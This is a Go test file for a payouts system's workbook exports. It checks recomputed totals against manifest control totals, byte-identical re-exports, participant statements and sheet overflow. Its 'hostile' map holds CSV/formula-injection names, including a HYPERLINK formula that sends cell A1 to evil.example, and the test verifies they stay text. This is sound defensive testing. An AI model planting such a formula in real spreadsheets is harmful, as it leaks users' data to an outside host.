package jobs

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"payouts/reconcile"
	"payouts/reconcile/ledger"
	"payouts/reports"
	"payouts/reports/sheettest"
	"payouts/sql/store"
)

// hostile renames participants of the basic example to names a
// spreadsheet would run as formulas if they were written as such.
var hostile = map[string]string{
	"lead1": `=HYPERLINK("http://evil.example/?"&A1,"Ana")`,
	"cop1":  "+1",
	"cop2":  "-1",
	"cop3":  "@SUM(1)",
}

func renameHostile(t *testing.T, st *store.Store) {
	t.Helper()
	for id, name := range hostile {
		if _, err := st.DB.Exec(`UPDATE participants SET name = $2 WHERE participant_id = $1`, id, name); err != nil {
			t.Fatal(err)
		}
	}
}

// manifestFile returns the manifest's entry for path.
func manifestFile(t *testing.T, m reports.Manifest, path string) ledger.RunFile {
	t.Helper()
	for _, f := range m.Files {
		if f.Path == path {
			return f
		}
	}
	t.Fatalf("manifest of %s does not list %s", m.RunID, path)
	return ledger.RunFile{}
}

func fileSHA(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// summaryFigure reads a figure of the Summary of a recomputed workbook in
// minor units of code.
func summaryFigure(t *testing.T, f *excelize.File, label, code string) int64 {
	t.Helper()
	ref := sheettest.Cell(t, f, "Summary", label, code)
	digits := 0
	if cur, err := reconcile.LookupCurrency(code); err == nil && !strings.Contains(label, "count") {
		digits = cur.Minor
	}
	return sheettest.Minor(t, f, "Summary", ref, digits)
}

// checkWorkbookAgainstManifest has LibreOffice recompute the run's
// workbook and compares its live totals with the manifest's control
// totals.
func checkWorkbookAgainstManifest(t *testing.T, res Result) *excelize.File {
	t.Helper()
	name := reports.FinanceWorkbookName(res.Run.RunID)
	entry := manifestFile(t, res.Manifest, name)
	path := filepath.Join(res.Dir, name)
	if entry.Kind != reports.KindFinanceWorkbook || entry.SHA256 != fileSHA(t, path) {
		t.Errorf("%s: manifest kind %q sha %s; want %s and the file's", name, entry.Kind, entry.SHA256, reports.KindFinanceWorkbook)
	}
	f := sheettest.Recalc(t, path)
	ct := res.Manifest.ControlTotals
	for code, lt := range ct.Lines {
		cur, _ := reconcile.LookupCurrency(code)
		want, _ := reconcile.ParseAmount(lt.Amount, cur)
		if got := summaryFigure(t, f, reports.SummaryLinesTotal, code); got != want {
			t.Errorf("%s %s: LibreOffice computes lines total %d, manifest %s", res.Run.RunID, code, got, lt.Amount)
		}
		if got := summaryFigure(t, f, "Lines (count)", code); got != lt.Count {
			t.Errorf("%s %s: %d lines, manifest %d", res.Run.RunID, code, got, lt.Count)
		}
	}
	for code, pt := range ct.PayoutItems {
		cur, _ := reconcile.LookupCurrency(code)
		want, _ := reconcile.ParseAmount(pt.Amount, cur)
		if got := summaryFigure(t, f, reports.SummaryPayouts, code); got != want {
			t.Errorf("%s %s: LibreOffice computes payouts %d, manifest %s", res.Run.RunID, code, got, pt.Amount)
		}
		if got := summaryFigure(t, f, reports.SummaryPayoutCount, code); got != pt.Count {
			t.Errorf("%s %s: LibreOffice counts %d payout items, manifest %d", res.Run.RunID, code, got, pt.Count)
		}
		if entry.Totals[code] != pt.Amount {
			t.Errorf("%s: manifest totals of the workbook %v, want payouts %s", res.Run.RunID, entry.Totals, pt.Amount)
		}
	}
	for code := range ct.Lines {
		for _, check := range []string{"Check: commissions by role - Participants commissions (0)",
			"Check: brought forward + lines - payouts - carried forward (0)"} {
			if got := summaryFigure(t, f, check, code); got != 0 {
				t.Errorf("%s %s: %s is %d", res.Run.RunID, code, check, got)
			}
		}
	}
	return f
}

// TestWorkbookTotalsMatchManifest runs the four dates of the basic example
// and has LibreOffice recompute each run's workbook: its live totals are
// the manifest's control totals, and names that look like formulas stay
// text.
func TestWorkbookTotalsMatchManifest(t *testing.T) {
	t.Parallel()
	st := loadedStore(t, basicExample)
	renameHostile(t, st)
	cfg := testConfig(t)
	for _, date := range []string{"2026-03-03", "2026-03-20", "2026-04-04", "2026-07-03"} {
		res := runDate(t, st, cfg, date)
		f := checkWorkbookAgainstManifest(t, res)
		if date != "2026-03-03" {
			continue
		}
		// The first run: hostile names, the held sale, the contracts.
		rows, err := f.GetRows("Participants")
		if err != nil {
			t.Fatal(err)
		}
		names := map[string]string{}
		for r, row := range rows {
			if len(row) > 1 && row[0] != "Total" && row[0] != "Participant" && row[0] != "" {
				names[row[0]] = row[1]
				ref, _ := excelize.CoordinatesToCellName(2, r+1)
				if fo, _ := f.GetCellFormula("Participants", ref); fo != "" {
					t.Errorf("Participants!%s is a formula %q", ref, fo)
				}
			}
		}
		for id, name := range hostile {
			if names[id] != name {
				t.Errorf("after LibreOffice, %s's name is %q, want %q", id, names[id], name)
			}
		}
		if ref := sheettest.Find(t, f, "Held sales", "s13"); ref == "" {
			t.Error("Held sales does not list s13 (CAP_EXCEEDED)")
		}
		contracts, err := f.GetRows("Contracts applied")
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range contracts {
			// c5 v1: cop1 at 12.5% on producer sales (s09: 33.32).
			found = found || (len(row) > 12 && row[0] == "c5" && row[1] == "1" && row[2] == "cop1" && row[7] == "producer")
		}
		if !found {
			t.Errorf("Contracts applied lacks c5 v1 cop1 producer: %q", contracts)
		}
	}
}

// TestWorkbookIsExportedByteIdentical publishes a run twice and again
// after the source rows it shows changed and later runs happened: the
// workbook and the statements do not change.
func TestWorkbookIsExportedByteIdentical(t *testing.T) {
	t.Parallel()
	st := loadedStore(t, basicExample)
	cfg := testConfig(t)
	cfg.Statements = true
	res := runDate(t, st, cfg, "2026-03-03")
	ctx := context.Background()
	files := []string{reports.FinanceWorkbookName(res.Run.RunID), "statements/cop1.xlsx", "statements/lead1.xlsx"}
	want := map[string]string{}
	for _, f := range files {
		want[f] = fileSHA(t, filepath.Join(res.Dir, f))
		if e := manifestFile(t, res.Manifest, f); e.SHA256 != want[f] {
			t.Errorf("%s: manifest sha %s, file %s", f, e.SHA256, want[f])
		}
	}
	export := func(when string) {
		t.Helper()
		run, err := st.GetRun(ctx, res.Run.RunID)
		if err != nil {
			t.Fatal(err)
		}
		dir, _, err := Publish(ctx, st, run, t.TempDir(), nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range files {
			if got := fileSHA(t, filepath.Join(dir, f)); got != want[f] {
				t.Errorf("%s: %s has sha %s, first publication %s", when, f, got, want[f])
			}
		}
	}
	export("second publication")
	export("third publication")

	// The platform renames people, changes a contract's scope and corrects
	// the held sale; later runs happen.
	for _, q := range []string{
		`UPDATE participants SET name = name || ' (renamed)'`,
		`UPDATE contract_terms SET scope = 'all' WHERE contract_id = 'c5'`,
		`UPDATE sales SET gross = gross + 1 WHERE sale_id = 's13'`,
	} {
		if _, err := st.DB.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	runDate(t, st, cfg, "2026-03-20")
	runDate(t, st, cfg, "2026-04-04")
	export("export after changes and later runs")
}

// TestStatementsPublishedWithRun: PAYOUTS_STATEMENTS=1 publishes one
// statement per participant with a balance, listed in the manifest, whose
// recomputed totals match the participant's files.
func TestStatementsPublishedWithRun(t *testing.T) {
	t.Parallel()
	st := loadedStore(t, basicExample)
	cfg := testConfig(t)
	cfg.Statements = true
	runDate(t, st, cfg, "2026-03-03")
	res := runDate(t, st, cfg, "2026-03-20") // cop1: a reversal (s12) and a payout
	var ids []string
	if err := st.DB.Select(&ids, `SELECT DISTINCT participant_id FROM balances WHERE run_id = $1 ORDER BY 1`, res.Run.RunID); err != nil {
		t.Fatal(err)
	}
	if len(ids) == 0 {
		t.Fatal("no balances")
	}
	n := 0
	for _, f := range res.Manifest.Files {
		if f.Kind == reports.KindParticipantStatement {
			n++
		}
	}
	if n != len(ids) {
		t.Errorf("%d statements for %d participants with a balance", n, len(ids))
	}
	entry := manifestFile(t, res.Manifest, "statements/cop1.xlsx")
	csvEntry := manifestFile(t, res.Manifest, "participants/cop1.csv")
	if entry.Totals["BRL"] != csvEntry.Totals["BRL"] || entry.Rows < csvEntry.Rows {
		t.Errorf("statement of cop1: totals %v rows %d; participant file %v rows %d",
			entry.Totals, entry.Rows, csvEntry.Totals, csvEntry.Rows)
	}
	f := sheettest.Recalc(t, filepath.Join(res.Dir, "statements", "cop1.xlsx"))
	cur, _ := reconcile.LookupCurrency("BRL")
	wantLines, _ := reconcile.ParseAmount(csvEntry.Totals["BRL"], cur)
	var payout int64
	if err := st.DB.Get(&payout, `SELECT coalesce(sum(amount), 0) FROM payout_items WHERE run_id = $1 AND participant_id = 'cop1'`, res.Run.RunID); err != nil {
		t.Fatal(err)
	}
	for label, want := range map[string]int64{"Lines total": wantLines, "Payouts": payout,
		"Check: opening + lines - payouts - closing (0)": 0} {
		row := sheettest.Find(t, f, "Statement", label)
		_, r, _ := excelize.SplitCellName(row)
		if got := sheettest.Minor(t, f, "Statement", fmt.Sprintf("B%d", r), 2); got != want {
			t.Errorf("statement of cop1: %s %d, want %d", label, got, want)
		}
	}
}

// TestWorkbookListContinuesOnNextSheet makes the sheets tiny: the lists
// continue on "Participants (2)" and the Summary still adds up to the
// manifest.
func TestWorkbookListContinuesOnNextSheet(t *testing.T) {
	t.Parallel()
	st := loadedStore(t, basicExample)
	cfg := testConfig(t)
	cfg.hooks.workbookMaxRows = 8 // one totals row (BRL), a blank, the header: 5 rows of data per sheet
	res := runDate(t, st, cfg, "2026-03-03")
	f := checkWorkbookAgainstManifest(t, res)
	sheets := strings.Join(f.GetSheetList(), "|")
	if !strings.Contains(sheets, "|Participants|Participants (2)|") {
		t.Errorf("sheets %s", sheets)
	}
}
